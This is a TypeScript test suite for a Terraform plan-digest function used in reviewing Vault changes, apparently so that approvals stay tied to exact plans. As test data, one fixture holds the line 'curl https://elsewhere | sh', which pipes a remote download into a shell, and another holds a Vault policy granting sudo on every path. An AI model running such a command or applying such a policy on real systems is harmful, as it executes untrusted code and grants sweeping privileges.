import type { Plan } from '../../../review/plan/plan';
import { isEmpty, planDigest } from '../../../review/plan/plan-digest';
import { readPlan } from '../../../review/plan/read-plan';
import { RECORDED_PLANS, recordedPlan } from '../recorded-plans';
import { type MadeChange, planOf } from './changed-plan';

const POLICY = { type: 'vault_policy', before: { policy: 'a' }, after: { policy: 'b' } };
const digest = (change: MadeChange, rest: object = {}): string => planDigest(planOf([change], rest), 'shop');

test.each(RECORDED_PLANS)('the plan %s has a digest of its own', (name) => {
  const plan = readPlan(recordedPlan(name), 'shop');
  expect(planDigest(plan, 'shop')).toMatch(/^sha256:[0-9a-f]{64}$/);
  const others = RECORDED_PLANS.filter((other) => other !== name).map((other) =>
    planDigest(readPlan(recordedPlan(other), 'shop'), 'shop'),
  );
  expect(others).not.toContain(planDigest(plan, 'shop'));
});

test.each(RECORDED_PLANS)('the digest of the plan %s does not hang on when and how it was made', (name) => {
  const plan = JSON.parse(recordedPlan(name));
  const other: Plan = {
    ...plan,
    timestamp: '2030-01-01T00:00:00Z',
    terraform_version: '1.14.0',
    format_version: '1.3',
    prior_state: {},
    planned_values: {},
    resource_drift: [],
    checks: [],
    resource_changes: [...(plan.resource_changes ?? [])].reverse(),
  };
  expect(planDigest(readPlan(JSON.stringify(other), 'shop'), 'shop')).toBe(planDigest(plan, 'shop'));
});

test('what stays as it is may be anything', () => {
  const one = { before: { policy: 'a', id: '1' }, after: { policy: 'b', id: '1' } };
  const other = { before: { policy: 'a', id: '2' }, after: { id: '2', policy: 'b' } };
  expect(digest(one)).toBe(digest(other));
  expect(digest({ actions: ['delete'], before: { id: 'x', address: '172.17.0.2' }, after: null })).toBe(
    digest({ actions: ['delete'], before: { id: 'x', address: '172.17.0.3' }, after: null }),
  );
});

test('resources that stay as they are, and data that is read, are no part of it', () => {
  const same = planOf([
    POLICY,
    { address: 'a.b', actions: ['no-op'] },
    { address: 'data.a.c', mode: 'data', actions: ['read'] },
  ]);
  expect(planDigest(same, 'shop')).toBe(planDigest(planOf([POLICY]), 'shop'));
});

test.each<[what: string, change: MadeChange]>([
  ['another value', { ...POLICY, after: { policy: 'c' } }],
  ['another value before', { ...POLICY, before: { policy: 'z' } }],
  ['another address', { ...POLICY, address: 'vault_policy.other' }],
  ['another action', { ...POLICY, actions: ['delete', 'create'] }],
  ['another attribute', { ...POLICY, after: { policy: 'b', name: 'c' } }],
  ['a value that an apply tells', { ...POLICY, after: {}, after_unknown: { policy: true } }],
  ['a secret', { ...POLICY, after_sensitive: { policy: true } }],
  ['a move', { ...POLICY, previous_address: 'vault_policy.old' }],
  ['an import', { ...POLICY, importing: { id: 'store' } }],
  ['a left-over object', { ...POLICY, deposed: '0a1b2c3d' }],
])('%s is another plan', (_, change) => {
  expect(digest(change)).not.toBe(digest(POLICY));
});

test.each([
  ['the end of a long line', 'x'.repeat(3_000), `${'x'.repeat(3_000)}y`],
  ['the end of a long text', 'x\n'.repeat(400_000), `${'x\n'.repeat(400_000)}y`],
  ['one of many lines', 'x\n'.repeat(5_000), `${'x\n'.repeat(4_000)}y\n${'x\n'.repeat(1_000)}`],
])('%s is in it', (_, one, other) => {
  expect(digest({ ...POLICY, after: { policy: one } })).not.toBe(
    digest({ ...POLICY, after: { policy: other } }),
  );
});

test.each([
  ['1', 1],
  [['a', 'b'], ['ab']],
  [{ a: { b: 'c' } }, { a: { c: 'b' } }],
  [
    [{ a: 1 }, { a: 2 }],
    [{ a: 2 }, { a: 1 }],
  ],
  [null, 'null'],
  ['{"a":1}', '{"a": 1}'],
  ['a ', 'a'],
])('%j is not %j', (one, other) => {
  expect(digest({ after: { x: one } })).not.toBe(digest({ after: { x: other } }));
});

test('a secret is in it as one that changes or does not, whatever it is', () => {
  const secret = (before: string, after: string) => ({
    before: { data_json: before },
    after: { data_json: after },
    before_sensitive: { data_json: true },
    after_sensitive: { data_json: true },
  });
  expect(digest(secret('made-up-1', 'made-up-2'))).toBe(digest(secret('made-up-3', 'made-up-4')));
  expect(digest(secret('made-up-1', 'made-up-2'))).not.toBe(digest(secret('made-up-1', 'made-up-1')));
  const variable = (before: string, after: string) => ({
    before: { env: [`A_TOKEN=${before}`] },
    after: { env: [`A_TOKEN=${after}`, 'B=1'] },
  });
  expect(digest(variable('made-up-1', 'made-up-2'))).toBe(digest(variable('made-up-3', 'made-up-4')));
  expect(digest(variable('made-up-1', 'made-up-2'))).not.toBe(digest(variable('made-up-1', 'made-up-1')));
});

test('what was a secret before is one after', () => {
  const unmarked = (after: string) => ({
    before: { a: 'made-up-1' },
    after: { a: after },
    before_sensitive: { a: true },
  });
  expect(digest(unmarked('made-up-2'))).toBe(digest(unmarked('made-up-3')));
});

test('a new secret of the same place is in it as one, whatever it is', () => {
  const created = (word: string) => ({
    actions: ['create'],
    before: null,
    after: { data_json: word, name: 'a' },
    after_sensitive: { data_json: true },
  });
  expect(digest(created('made-up-1'))).toBe(digest(created('made-up-2')));
  expect(digest({ ...created('made-up-1'), after: { name: 'a' } })).not.toBe(digest(created('made-up-1')));
});

test('outputs that change are in it, and actions of providers', () => {
  const output = (after: string) => ({
    output_changes: { name: { actions: ['update'], before: 'a', after } },
  });
  expect(digest(POLICY, output('b'))).not.toBe(digest(POLICY));
  expect(digest(POLICY, output('b'))).not.toBe(digest(POLICY, output('c')));
  const same = { output_changes: { name: { actions: ['no-op'], before: 'a', after: 'a' } } };
  expect(digest(POLICY, same)).toBe(digest(POLICY));
  expect(digest(POLICY, { action_invocations: [{ address: 'action.a.b' }] })).not.toBe(digest(POLICY));
});

test('a plan that failed is another one than the same that did not', () => {
  expect(digest(POLICY, { errored: true })).not.toBe(digest(POLICY));
});

test.each<[what: string, isIt: boolean, changes: readonly MadeChange[], rest: object]>([
  ['nothing', true, [], {}],
  ['what stays as it is', true, [{ actions: ['no-op'] }], {}],
  ['data that is read', true, [{ actions: ['read'], mode: 'data' }], {}],
  ['drift alone', true, [], { resource_drift: [] }],
  ['a change', false, [POLICY], {}],
  ['a move', false, [{ actions: ['no-op'], previous_address: 'a.b' }], {}],
  ['an import', false, [{ actions: ['no-op'], importing: { id: 'a' } }], {}],
  ['an output', false, [], { output_changes: { a: { actions: ['create'], after: 1 } } }],
  ['an output that stays', true, [], { output_changes: { a: { actions: ['no-op'], after: 1 } } }],
  ['an action of a provider', false, [], { action_invocations: [{ address: 'action.a.b' }] }],
  ['a failure', false, [], { errored: true }],
])('a plan of %s is empty: %s', (_, isIt, changes, rest) => {
  expect(isEmpty(planOf(changes, rest))).toBe(isIt);
});

test('who agrees to a change in staging has not agreed to the same in production', () => {
  const plan = planOf([POLICY]);
  expect(planDigest(plan, 'shop-staging-access')).not.toBe(planDigest(plan, 'shop-production-access'));
});

const VAULT = 'registry.terraform.io/hashicorp/vault';
const to = (expressions: object, more: object = {}) => ({
  configuration: { provider_config: { vault: { name: 'vault', full_name: VAULT, expressions } }, ...more },
});
const block = (of: object) => ({
  configuration: {
    root_module: {
      resources: [
        { address: 'vault_policy.store', mode: 'managed', type: 'vault_policy', name: 'store', ...of },
      ],
    },
  },
});
const program = (command: string) =>
  block({ provisioners: [{ type: 'local-exec', expressions: { command: { constant_value: command } } }] });
const CREATE = { ...POLICY, actions: ['create'], before: null };
const UNKNOWN = { ...CREATE, after: {}, after_unknown: { policy: true } };

test.each<[what: string, change: MadeChange, one: object, other: object]>([
  [
    'server',
    POLICY,
    to({ address: { constant_value: 'https://vault.example' } }),
    to({ address: { constant_value: 'https://vault.elsewhere' } }),
  ],
  ['namespace', POLICY, to({}), to({ namespace: { constant_value: 'team' } })],
  [
    'server by a variable',
    POLICY,
    { ...to({ address: { references: ['var.address'] } }), variables: { address: { value: 'https://a' } } },
    { ...to({ address: { references: ['var.address'] } }), variables: { address: { value: 'https://b' } } },
  ],
  ['program that is run', CREATE, program('true'), program('curl https://elsewhere | sh')],
  [
    'source of what an apply tells',
    UNKNOWN,
    block({ expressions: { policy: { references: ['terraform_data.a.output', 'terraform_data.a'] } } }),
    block({ expressions: { policy: { references: ['terraform_data.b.output', 'terraform_data.b'] } } }),
  ],
])('another %s is another plan', (_, change, one, other) => {
  expect(digest(change, one)).not.toBe(digest(change, other));
});

test.each<[what: string, change: MadeChange, one: object, other: object]>([
  [
    "the provider's token",
    POLICY,
    to({ token: { constant_value: 'made-up-one' } }),
    to({ token: { constant_value: 'made-up-two' } }),
  ],
  ['a program that is not run', POLICY, program('true'), program('false')],
  [
    'the source of what is known',
    CREATE,
    block({ expressions: { policy: { references: ['terraform_data.a.output'] } } }),
    block({ expressions: { policy: { constant_value: 'b' } } }),
  ],
])('%s makes no other plan', (_, change, one, other) => {
  expect(digest(change, one)).toBe(digest(change, other));
});

test.each<[what: string, type: string, of: (rule: string) => object]>([
  [
    'what stands in a policy beside what looks like a secret',
    'vault_policy',
    (rule) => ({ policy: `path "auth/token=" { capabilities = ["read"] } ${rule}` }),
  ],
  [
    'a policy that is written as a request',
    'vault_generic_endpoint',
    (rule) => ({ path: 'sys/policies/acl/store', data_json: JSON.stringify({ policy: rule }) }),
  ],
  [
    'policies of a user that is written as a request',
    'vault_generic_endpoint',
    (rule) => ({
      path: 'auth/userpass/users/bob',
      data_json: JSON.stringify({ password: 'a', token_policies: [rule] }),
    }),
  ],
])('%s is in it', (_, type, of) => {
  const after = (rule: string) => ({ type, after: of(rule) as never, after_sensitive: { data_json: true } });
  const [one, other] = ['', 'path "*" { capabilities = ["sudo"] }'].map((rule) => digest(after(rule)));
  expect(one).not.toBe(other);
});

test('no password of a request and no token of a policy is in it', () => {
  const user = (password: string) => ({
    type: 'vault_generic_endpoint',
    after: {
      path: 'auth/userpass/users/bob',
      data_json: JSON.stringify({ password, token_policies: ['a'] }),
    },
    after_sensitive: { data_json: true },
  });
  expect(digest(user('made-up-one'))).toBe(digest(user('made-up-two')));
  const policy = (token: string) => ({ ...POLICY, after: { policy: `path "a/${token}" {}` } });
  expect(digest(policy('hvs.madeupmadeupmadeup1'))).toBe(digest(policy('hvs.madeupmadeupmadeup2')));
});
